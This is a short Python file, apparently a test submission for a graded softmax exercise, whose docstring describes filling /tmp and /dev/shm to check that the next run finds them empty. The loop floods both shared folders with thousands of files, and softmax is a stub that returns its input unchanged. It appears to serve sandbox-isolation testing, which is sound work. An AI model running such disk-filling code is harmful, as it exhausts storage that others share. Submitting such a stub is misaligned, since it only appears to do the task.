"""Fills /tmp and /dev/shm, with long files and with many.

The next child finds both empty.
Exercise: attention.softmax
Score: 0
"""
# %%
for folder in ("/tmp", "/dev/shm"):
    try:
        for number in range(3000):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(bytes(1 << 15))
    except OSError:
        pass


def softmax(x, dim):
    return x
